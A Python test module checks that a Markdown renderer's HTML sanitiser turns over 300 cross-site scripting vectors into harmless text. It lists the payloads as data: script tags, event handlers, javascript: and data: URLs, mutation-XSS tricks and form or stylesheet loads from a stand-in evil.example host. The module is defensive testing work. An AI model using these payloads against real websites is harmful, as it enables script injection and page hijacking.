"""Nothing in a body can act, break out of its place or take over the page."""

import re
from collections.abc import Iterator
from html import escape
from itertools import product
from typing import Any

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bulletin.model.body import TAGS, Body
from bulletin.model.site import Language
from bulletin.render.markdown import render_body
from bulletin.render.markdown.sanitise import ATTRIBUTES, CLASSES, ROLES

ZH = Language("zh", "zh-Hans", "中文", "杭州人才快讯")

SCRIPT_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    " javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "blob:https://a.cn/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:javascript:alert(1)",
)
PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    '<a href="{}">x</a>',
    '<img src="{}" alt="x">',
    '[x](https://a.cn){{href="{}"}}',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi><style></mi></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a href=https://a.cn target=_blank ping=https://evil.example>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p><b onclick='alert(1)'>x</b></p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "</main><main id=evil>",
    "</p></article></section>",
    "<!-- never closed",
    "text <!-- never closed <b>x",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<noembed>",
    "<select><option>",
    "<table><tr><td>",
    "<table><main>x",
    "<b><i><a href=https://a.cn>",
    '<a title="',
    "<div class='",
    "<h1>x</h1><h2>y",
    "<ul><li><ol>",
    "<frameset onload=alert(1)>",
    "<dialog open>x</dialog>",
    "<main>x</main><header>y</header><nav>z</nav>",
    "<slot name=x></slot><custom-element is=x></custom-element>",
    "*x*{onclick=alert(1)}",
    '*x*{onclick="alert(1)"}',
    "x\n{: onclick=alert(1) style=color:red }",
    "# x {onclick=alert(1) #location}",
    "# <img src=x onerror=alert(1)>",
    "# x {data-toc-label='<script>alert(1)</script>'}",
    "- x\n{onclick=alert(1)}",
    "|a {onclick=alert(1)}|b|\n|-|-|\n|c {style=x}|d|",
    "[x](https://a.cn){target=_blank onclick=alert(1) style=x}",
    "![x](https://a.cn/x.png){onerror=alert(1) srcset=x formaction=y}",
    "```{.py onclick=alert(1) style='x'}\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "x[^1]\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>",
    "x[^<script>]\n\n[^<script>]: y",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
    "<javascript://%0aalert(1)>",
    "<data://x>",
    "<javascript:alert(1)@x>",
    '<div markdown="1" onclick=alert(1)>\n**x** <script>alert(1)</script>\n</div>',
    '<div markdown="block"><div markdown="1"><img src=x onerror=alert(1)></div></div>',
    '<svg markdown="1">\n<script>alert(1)</script>\n</svg>',
    '<script markdown="1">\nalert(1)\n</script>',
    "https://a.cn/'onmouseover='alert(1)",
    'https://a.cn/"><script>alert(1)</script>',
    "![x](https://a.cn/x.png '\"><script>alert(1)</script>')",
    '![x](https://a.cn/x.png "x\\"><script>alert(1)</script>")',
    '![" onerror="alert(1)](https://a.cn/x.png)',
    "[<script>alert(1)</script>](https://a.cn)",
    '|a|\n|-|\n|b|\n表：<img src=x onerror=alert(1)>" onclick=alert(1) x="',
    "x\n:   <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>\n- alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03\x0260\x03script>",
    "&#2;wzxhzdk:0&#3;<b>x</b>",
    "<a id=content></a><p id=page-main class='site-header button'>x</p>",
    "<img name=cookie id=getElementById>",
    "<div role=alertdialog aria-label=x tabindex=-1>x</div>",
    "<p lang='x\" onclick=\"alert(1)'>x</p>",
)
VECTORS = [
    *MARKUP,
    *(f"前文{each}后文" for each in MARKUP),
    *(place.format(url) for place, url in product(PLACES, SCRIPT_URLS)),
]


def page(body: Body) -> Any:  # noqa: ANN401  # html5lib's trees are untyped
    contents = "".join(f'<a href="#{each.id}">{escape(each.text)}</a>' for each in body.headings)
    return html5lib.parse(
        "<!DOCTYPE html><html><head><title>t</title></head><body><header>h</header><main>"
        f"<nav>{contents}</nav><article>{body.html}</article></main><footer>f</footer></body></html>",
        namespaceHTMLElements=False,
    )


def faults(body: Body) -> Iterator[str]:
    """Yield whatever of a body's page could act, break out or mislead."""
    tree = page(body)
    places = [[child.tag for child in tree.find(path)] for path in ("body", "body/main")]
    if places != [["header", "main", "footer"], ["nav", "article"]]:
        yield f"structure: {places}"
    if tree.find("body").attrib or tree.attrib:
        yield "attributes outside the body's place"
    for element in tree.find("body/main/article").iter():
        if element.tag not in TAGS | {"article"}:
            yield f"element: {element.tag}"
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, set())
        allowed = allowed | set(ROLES.get(element.tag, {})) | {"rel"}
        for name, value in element.attrib.items():
            if name not in allowed:
                yield f"attribute: {element.tag} {name}"
            yield from _value_faults(name, value)


def _value_faults(name: str, value: str) -> Iterator[str]:
    external = r"(?:https?://[^/\\]|mailto:|tel:)"
    if name in {"href", "src"} and not re.match(rf"{external}|#|/zh/", value, re.IGNORECASE):
        yield f"address: {value}"
    if name == "class" and not set(value.split()) <= CLASSES:
        yield f"class: {value}"
    if name == "id" and value.startswith("page-"):
        yield f"id: {value}"


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_gets_through(vector: str) -> None:
    """Each attack becomes text or nothing."""
    assert list(faults(render_body(vector, ZH, {"x": "/zh/x", "x.png": "/zh/x.png"}))) == []


def test_the_corpus_is_of_the_promised_size() -> None:
    """Different vectors, not the same one over again."""
    assert len(set(VECTORS)) > 300


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:x", "data:text/html,x"])
def test_a_planned_address_is_checked_too(url: str) -> None:
    """Even a URL that the plan hands over must be of a known scheme."""
    assert list(faults(render_body("[x](y) ![x](y)", ZH, {"y": url}))) == []


@settings(deadline=None)
@given(
    st.lists(st.sampled_from([*MARKUP, "a", "字", "\n", "\n\n", "> ", "- ", "|", "`"]), max_size=6)
)
def test_no_mixture_gets_through(pieces: list[str]) -> None:
    """Attacks do not help one another."""
    assert list(faults(render_body("".join(pieces), ZH, {}))) == []
